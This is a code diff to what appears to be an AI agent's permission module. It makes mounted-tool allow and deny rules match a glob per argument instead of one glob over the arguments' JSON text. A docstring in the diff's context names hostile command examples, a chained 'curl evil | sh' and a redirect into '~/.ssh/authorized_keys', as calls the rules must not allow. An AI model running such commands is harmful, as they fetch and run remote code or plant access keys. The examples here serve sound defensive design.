@@ -32,8 +32,8 @@ Arguments = ToolArgs | Mapping[str, Any]  # a built-in tool's, or a mounted (MCP
 
 
 def subject(args: Arguments) -> str | None:
-    """What an allow rule is matched against: the command, the normalised path, or for a
-    mounted tool its arguments as compact JSON with sorted keys (`{"word":"hub"}`)."""
+    """What a rule is matched against, and shown for: the command, the normalised path, or
+    for a mounted tool its arguments as compact JSON with sorted keys (`{"word":"hub"}`)."""
     if isinstance(args, Mapping):
         return orjson.dumps(args, option=orjson.OPT_SORT_KEYS).decode()
     if isinstance(args, ExecuteCommandArgs):
@@ -48,7 +48,10 @@ def rule_allows(pattern: str, args: Arguments) -> bool:
     can match: "npm test" allows "npm test -k x", not "npm tests", and not
     "npm test; curl evil | sh" or "npm test > ~/.ssh/authorized_keys" (an IDE may run it through
     a shell). "=npm test" allows exactly that command; a rule with `*` is a glob on the whole
-    command. A mounted tool's rule is a glob on its `subject`: "*" allows every call."""
+    command. A mounted tool's rule is "*" (every call) or a JSON object of a glob per argument,
+    naming every argument the call has: `{"url": "https://docs.example/*"}`."""
+    if isinstance(args, Mapping):
+        return _arguments_match(pattern, args, every_key=True)
     if isinstance(args, ExecuteCommandArgs):
         commands = simple_commands(args.command)
         return (
@@ -60,7 +63,10 @@ def rule_allows(pattern: str, args: Arguments) -> bool:
 def rule_denies(pattern: str, args: Arguments) -> bool:
     """Whether a deny rule covers the call: for a command, when any of the commands it chains
     matches the rule; a text that cannot be split (a substitution, say) is cut at every shell
-    character instead, and denied if the rule's words appear in it anywhere."""
+    character instead, and denied if the rule's words appear in it anywhere. A mounted tool's
+    deny rule is "*" or globs for some of its arguments, whatever the others are."""
+    if isinstance(args, Mapping):
+        return _arguments_match(pattern, args, every_key=False)
     if isinstance(args, ExecuteCommandArgs):
         commands = simple_commands(args.command)
         if commands is not None:
@@ -106,6 +112,27 @@ def _command_matches(pattern: str, words: list[str]) -> bool:
     if not wanted:
         return False
     return words == wanted if exact else words[: len(wanted)] == wanted
+
+
+def _arguments_match(pattern: str, args: Mapping[str, Any], *, every_key: bool) -> bool:
+    """A glob per argument, never one over the arguments' text: there `*` could match across
+    the boundary between two arguments and let an extra one through."""
+    if pattern.strip() == "*":
+        return True
+    try:
+        globs = orjson.loads(pattern)
+    except orjson.JSONDecodeError:
+        return False
+    if not isinstance(globs, dict) or not globs:
+        return False
+    keys, named = set(args), set(globs)
+    if (keys != named) if every_key else not named <= keys:
+        return False
+    return all(fnmatchcase(_text(args[k]), str(glob)) for k, glob in globs.items())
+
+
+def _text(value: Any) -> str:
+    return value if isinstance(value, str) else orjson.dumps(value).decode()
 
 
 def _path_matches(pattern: str, args: Arguments) -> bool:
